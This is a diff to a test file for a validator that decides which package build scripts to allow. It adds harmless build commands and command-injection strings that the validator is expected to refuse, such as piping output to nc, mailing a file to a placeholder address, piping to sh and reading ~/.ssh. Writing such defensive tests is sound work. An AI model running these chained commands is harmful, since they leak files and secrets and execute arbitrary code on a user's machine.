@@ -60,6 +60,9 @@ describe('steps of a build in a package', () => {
     'tsc && tsc -p tsconfig.esm.json && node dist/x.js',
     'node ../../tools/clean.ts dist',
     'rm -rf build && rollup -c',
+    'lint-all && node test/all.js | tap-pretty',
+    'cover _all && cat ./coverage/lcov.info | covered',
+    'compile src -d lib; node tools/link.js && node tools/sign.js',
   ])('may be %j', (script) => {
     expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(false)
     expect(engine.text('json', 'value', 'body.note', `x; ${script}`).refused).toBe(true)
@@ -75,6 +78,14 @@ describe('steps of a build in a package', () => {
     'tsc && node -e "x" ; whoami',
     'tsc && ls ~/.ssh',
     "x' && cat /etc/hosts && '",
+    'x; id',
+    'x; cat package.json',
+    'x | sh',
+    'x; node -e "require(1)"',
+    'x; /tmp/a',
+    'tsc && node a.js | nc',
+    'tsc && cat a.json | mailx a@e.example',
+    'tsc || node a.js | python3.11',
   ])('may not be %j', (script) => {
     expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(true)
   })
